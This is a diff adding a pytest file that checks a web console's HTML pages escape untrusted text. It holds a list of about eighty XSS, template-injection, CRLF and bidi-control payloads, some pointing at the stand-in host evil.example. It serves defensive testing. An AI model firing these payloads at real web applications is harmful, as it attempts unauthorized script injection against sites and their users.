@@ -1,0 +1,261 @@
+"""What others wrote is only ever text: no string of theirs adds an element or an attribute, or hides what it is."""
+
+from __future__ import annotations
+
+import itertools
+import json
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from google.protobuf.message import Message
+
+from pdp.console.assets import Assets
+from pdp.console.drafts import EVERYTHING, Draft
+from pdp.console.logins import Credential, Login, Logins
+from pdp.console.now import SELECTORS
+from pdp.console.pages import Pages, quoted, said
+from pdp.console.problems import Problem
+from pdp.console.waiting import WaitingRow
+from pdp.testing.clock import FakeClock
+from pdp.v1.access_pb2 import ACCESS_STATE_OPEN, GetAccessRequestResponse
+from pdp.v1.caller_pb2 import Caller
+from pdp.v1.session_pb2 import ReviewSessionResponse, RevokeSessionsResponse, Session
+
+# Collected from the usual lists of attacks; each has worked somewhere.
+STRINGS = (
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=//evil.example/x.js></script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=`x` onerror=alert(1)>",
+    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert&#40;1)</script>",
+    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    '<iframe srcdoc="<script>alert(1)</script>">',
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>*{background:url(//evil.example)}</style>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<form action=//evil.example><button>Approve</button></form>",
+    "</form><form action=/revoke method=post>",
+    "<input autofocus onfocus=alert(1)>",
+    "<button formaction=//evil.example>Approve</button>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<textarea></textarea><script>alert(1)</script>",
+    "<title></title><script>alert(1)</script>",
+    "<!--><script>alert(1)</script-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    '<?xml version="1.0"?><script>alert(1)</script>',
+    "--><img src=x onerror=alert(1)>",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    '" onmouseover=alert(1) x="',
+    "' onmouseover=alert(1) x='",
+    "` onmouseover=alert(1) x=`",
+    '" autofocus onfocus=alert(1) "',
+    '"style="position:fixed;inset:0"',
+    'x" data-live="',
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    " javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "//evil.example/",
+    "/\\evil.example",
+    'https://evil.example/?x="><script>',
+    "{{ 7*7 }}",
+    "{% include 'base.html' %}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "${alert(1)}",
+    "<%= 7*7 %>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)",
+    "&#x3C;script&#x3E;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003cscript\\u003ealert(1)",
+    "\\x3cscript\\x3ealert(1)",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "\u00bcscript\u00bealert(1)",
+    "\uff1cscript\uff1ealert(1)",
+    "<script\x00>alert(1)</script>",
+    "<\x00script>alert(1)</script>",
+    "</bdi></blockquote><h1>Approved</h1>",
+    "</bdi><bdi dir=rtl>",
+    "\u202eevorppa\u202c",
+    "\u2066\u2067x\u2069\u2069\u2069",
+    "\u200f\u061c.<b>",
+    "a\u2028b\u2029c",
+    "\r\nSet-Cookie: pdp-console=x\r\n\r\n<script>",
+    "\x1b[2J\x1b[H",
+    "a\u0000b",
+    "x" * 3000,
+    "\u0300" * 200,
+)
+# A person sees each of these as an escape.
+_UNSEEN = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u2028\u2029\x00\x1b\x7f\u2800"
+
+
+_PAGES = Pages(Assets(), FakeClock())
+
+
+class _Elements(HTMLParser):
+    """The elements of a page with the names of their attributes, and those values that decide what a browser does."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[tuple[str, ...]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        kept = [f"{name}={value}" if name in ("class", "action", "src", "rel") else name for name, value in attrs]
+        assert all(not name.startswith("on") and name != "style" for name, _ in attrs)
+        for name, value in attrs:
+            # A value of others that leads somewhere is a part of a path or a query of the console.
+            assert name not in ("href", "action", "src") or (value or "").startswith(("/", "#"))
+            assert name not in ("href", "action", "src") or not (value or "").startswith(("//", "/\\"))
+        self.found.append((tag, *kept))
+
+
+def elements(page: str) -> list[tuple[str, ...]]:
+    """Return the elements of a page."""
+    parser = _Elements()
+    parser.feed(page)
+    parser.close()
+    return parser.found
+
+
+def filled(message: Message, text: str, depth: int = 4) -> Any:
+    """Return a message with a text in every field that can hold one, and an element in every list."""
+    for field in message.DESCRIPTOR.fields:
+        inner = field.message_type
+        if inner is not None and inner.full_name.startswith("google."):
+            getattr(message, field.name).seconds = 600
+        elif inner is not None and depth:
+            one = getattr(message, field.name)
+            filled(one.add() if field.is_repeated else one, text, depth - 1)
+        elif field.type == field.TYPE_STRING:
+            getattr(message, field.name).append(text) if field.is_repeated else setattr(message, field.name, text)
+    return message
+
+
+def login(text: str) -> Login:
+    """Return a log-in of a caller whose id is a text."""
+    logins = Logins(FakeClock(), idle_seconds=60, longest_seconds=60)
+    found = logins.find(logins.begin(Caller(caller_id=text, roles=[text]), Credential()), used=True)
+    assert found
+    found.form_token = "token"  # noqa: S105 - the same on both pages that are compared
+    return found
+
+
+def json_of(text: str) -> bytes:
+    """Return an object whose names and values are a text."""
+    return json.dumps({text: text}, ensure_ascii=False).encode("utf-8", "replace")
+
+
+def pages(text: str) -> dict[str, str]:
+    """Return every page that shows what others wrote, with a text in each of its places."""
+    who = login(text)
+    review: ReviewSessionResponse = filled(ReviewSessionResponse(), text)
+    session = review.session
+    session.terms_json = session.user_attributes_json = json_of(text)
+    # Ids are the server's own, and parts of paths.
+    session.session_id = session.parent_session_id = "ses_a"
+    hit: RevokeSessionsResponse = filled(RevokeSessionsResponse(), text)
+    hit.session_count = 2
+    hit.sessions[0].session_id = "ses_a"
+    call: GetAccessRequestResponse = filled(GetAccessRequestResponse(), text)
+    call.access_request.state = ACCESS_STATE_OPEN
+    call.access_request.session_id = call.access_request.access_request_id = "acc_a"
+    call.most_calls = 5
+    row = WaitingRow(
+        key="ses_a",
+        path="/sessions/ses_a",
+        kind="session",
+        agent=text,
+        user=text,
+        tool=text,
+        text=text,
+        tenant=text,
+        request_time=session.request_time,
+        expire_time=session.expire_time,
+    )
+    draft = Draft(tools=(text,), duration=5.0, terms=b"{}", grants=(text,))
+    chosen = {"tool": [text], "grant": [text], "minutes": [text], f"term.{text}": [text]}
+    problem = Problem(status=404, title="There is nothing", advice="Look elsewhere.")
+
+    def page(name: str, **given: Any) -> str:
+        return bytes(_PAGES.page(name, login=who, **given).body).decode()
+
+    wanted = dict.fromkeys(("user", "agent", "tenant"), text)
+    lists: dict[str, Any] = {"every": True, "older": "", "newer": "", "revocable": "", "wanted": wanted}
+    return {
+        "waiting": page("waiting.html", rows=[row], number=1, more=0, tenants=True),
+        "request": page("request.html", review=review, asked=session, draft=draft, choice="x", changed=(text,)),
+        "request as it is": page("request.html", review=review, asked=session, draft=EVERYTHING, choice="", changed=()),
+        "less": page("less.html", review=review, problem=text, chosen=chosen),
+        "session": page("session.html", session=session, review=review, said_by_server=text),
+        "call": page(
+            "call.html",
+            review=call,
+            call=call.access_request,
+            approved=session,
+            arguments=[(text, text)],
+            changed=text,
+        ),
+        "now": page("now.html", sessions=[session], number=1, chosen=wanted, **lists),
+        "now, empty": page("now.html", sessions=[], number=0, chosen=wanted, **lists),
+        **{f"revoke {name}": page("revoke.html", hit=hit, selected={name: text}, problem=text) for name in SELECTORS},
+        "nothing to revoke": page("revoke.html", hit=RevokeSessionsResponse(), selected={"user": text}, problem=""),
+        "problem": page("problem.html", problem=problem, detail=text),
+    }
+
+
+HARMLESS = {name: elements(page) for name, page in pages("word").items()}
+
+
+@pytest.mark.parametrize("text", STRINGS, ids=itertools.count())
+def test_no_string_becomes_anything_but_text(text: str) -> None:
+    """In every field of every page, the elements and their attributes are those of a harmless word."""
+    found = {name: elements(page) for name, page in pages(text).items()}
+
+    assert HARMLESS == found
+
+
+def test_there_are_enough_strings() -> None:
+    """Each once."""
+    assert len(set(STRINGS)) == len(STRINGS) >= 60
+
+
+@pytest.mark.parametrize("character", _UNSEEN)
+def test_what_draws_nothing_is_shown(character: str) -> None:
+    """A character that hides or moves others is an escape, in a line and in a block, and only a line break is kept."""
+    for shown in (said(f"a{character}b"), quoted(f"a{character}b")):
+        assert character not in shown
+        assert "\\" in shown
+    assert "a\nb" in quoted("a\r\nb")
+
+
+def test_the_text_of_others_is_isolated() -> None:
+    """Words that are read from right to left do not turn what is beside them."""
+    assert "<bdi>\u05d0</bdi>" == said("\u05d0")
+    assert quoted("\u05d0").startswith('<bdi class="quoted" dir="auto">')
+
+
+def test_every_page_shows_the_text() -> None:
+    """What this file fills in is what the pages show: a text is on each of them."""
+    for name, page in pages("Aardvark").items():
+        assert "Aardvark" in page, name
+    assert "Aardvark" == filled(Session(), "Aardvark").purpose
